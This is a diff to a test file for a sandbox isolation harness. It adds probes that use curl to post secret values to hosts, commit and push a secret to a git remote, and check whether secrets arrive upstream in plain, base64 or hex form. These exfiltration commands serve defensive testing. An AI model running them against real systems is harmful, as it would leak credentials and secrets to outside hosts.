@@ -1,10 +1,11 @@
 /** I2, I5, I7, I8: what a bottle does to its operator's side, looked at from there. */
 import { node, type Otherwise, type Probe, type Step, sh } from "../probe.ts";
+import { LEAK } from "./exfiltration.ts";
 
 /** Done in the bottle first, so that there is something to look at; by their paths these are told from whatever else was refused. */
 const TRIED: readonly Step[] = [
   sh(
-    `for how in "-d note=$BOUND https://$ALLOWED_HOST" "https://tried-by-$ID.test" "-d note=clean https://$ALLOWED_HOST" "-d note=$FOUND https://$ALLOWED_HOST"; do curl -sS -o /dev/null $how/tried-by-$ID; done; got "it was tried"`,
+    `for how in "-d note=$BOUND https://$ALLOWED_HOST${LEAK}" "https://tried-by-$ID.test" "-d note=clean https://$ALLOWED_HOST" "-d note=$FOUND https://$ALLOWED_HOST${LEAK}" "https://$ALLOWED_HOST${LEAK}/$BOUND"; do curl -sS -o /dev/null $how/tried-by-$ID; done; got "it was tried"`,
   ),
 ];
 
@@ -89,6 +90,15 @@ content "$@" | has_token && got "a token is there"; content "$@" | grep -qaF "$(
     { invariant: "I2" },
   ),
   side(
+    "log-sent",
+    "had a secret that it sent put on its log, from where it stood",
+    `[ "$SIDE" = bottle ] && log=$AUDIT || { log=$TRIES/sent; printf %s "$ATTACK_BOUND" >"$log"; }
+[ "$SIDE" != bottle ] || grep -q "tried-by-$ID" "$log" || cannot nothing of it is on the log
+grep -aqF -e "$ATTACK_BOUND" -e "$FOUND" "$log" && got "it is on the log"; refused not-there`,
+    ["not-there"],
+    { invariant: "I2", first: TRIED },
+  ),
+  side(
     "arguments",
     "left a secret in an argument of any process, or the environment of one of the bottle's",
     `[ "$SIDE" = bottle ] && words='bottle.js (keeper|sidecar)|guest-[i]nit' || words="$MARK"; looked=0
@@ -102,6 +112,7 @@ for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline 2>/dev/null | grep -qE "$word
     "received",
     "had a secret arrive at an upstream after all",
     `node_words=$(grep -a -c . "$RECEIVED"); [ "$node_words" -gt 0 ] || cannot nothing arrived at all
+grep -aqF " ${LEAK}" "$RECEIVED" && got "what was refused arrived all the same"
 for value in "$FOUND" "$ATTACK_BOUND"; do grep -aqF "$value" "$RECEIVED" && got "one arrived"; grep -aqF "$(printf %s "$value" | base64 -w0 | tr -d =)" "$RECEIVED" && got "one arrived in base64"; grep -aqiF "$(printf %s "$value" | od -An -tx1 | tr -d ' \\n')" "$RECEIVED" && got "one arrived in hexadecimal"; done
 refused not-there`,
     ["not-there"],
@@ -124,23 +135,28 @@ const answer = await mcp("request_access", { host: "chosen.example.com", methods
   }),
   side(
     "upstream-refs",
-    "had anything arrive in a repository that it may not change",
+    "had anything arrive in a repository that it may not change, or that was refused",
+    // Of what came without a ref, or was taken off one again, the objects are left.
     `main=$(git --git-dir="$REMOTE" rev-parse refs/heads/main); first=$(git -C "$PROJECT" rev-parse refs/heads/main)
-[ "$main" = "$first" ] || got "main was moved"; words=$(git --git-dir="$REMOTE" for-each-ref --format='%(refname)' | grep -v -e '^refs/heads/main$' -e "^refs/heads/bottle/$ID/") && got "$words"; refused untouched`,
+[ "$main" = "$first" ] || got "main was moved"; words=$(git --git-dir="$REMOTE" for-each-ref --format='%(refname)' | grep -vxE "refs/heads/main|refs/heads/bottle/$ID/(mine|forced-[0-9]+|doomed-[0-9]+)") && got "$words"
+git --git-dir="$REMOTE" rev-parse -q --verify "refs/heads/bottle/$ID/mine" >/dev/null || cannot nothing arrived at all
+words=$(git --git-dir="$REMOTE" fsck --unreachable --no-progress 2>&1) || cannot "$words"; [ -z "$words" ] || got "$words"; refused untouched`,
     ["untouched"],
     {
       invariant: "I4",
       first: [
         sh(`cd "$scratch" && rm -rf refs && git clone -q "$REMOTE" refs && cd refs && git commit -q --allow-empty -m x || cannot it cannot be cloned
-for ref in "bottle/$ID/mine" main "bottle/another-bottle/x" other; do git push -q origin "HEAD:refs/heads/$ref" >/dev/null 2>&1; done; got "it was tried"`),
+for ref in "bottle/$ID/mine" main "bottle/another-bottle/x" other; do git push -q origin "HEAD:refs/heads/$ref" >/dev/null 2>&1; done
+echo "$BOUND" >note && git add note && git commit -q -m y && git push -q origin "HEAD:refs/heads/bottle/$ID/secret" >/dev/null 2>&1; got "it was tried"`),
       ],
     },
   ),
   side(
     "verified",
-    "was let begin without its isolation having been looked at from inside",
-    `line=$(grep -n '"bottle.verified"' "$AUDIT" | head -1 | cut -d: -f1); ready=$(grep -n '"bottle.ready"' "$AUDIT" | head -1 | cut -d: -f1)
+    "was let begin without having been found isolated from inside",
+    `verified=$(grep -n '"bottle.verified"' "$AUDIT" | head -1); line=\${verified%%:*}; ready=$(grep -n '"bottle.ready"' "$AUDIT" | head -1 | cut -d: -f1)
 [ "$SIDE" = bottle ] || line=""
+case $verified in *'"isolated":true'*'"tcp 1.1.1.1:443 '*) ;; *) got "it was not found isolated" ;; esac
 [ -n "$line" ] && [ -n "$ready" ] && [ "$line" -lt "$ready" ] && refused verified-first; got "line $line, ready at $ready"`,
     ["verified-first"],
     { invariant: "I7" },
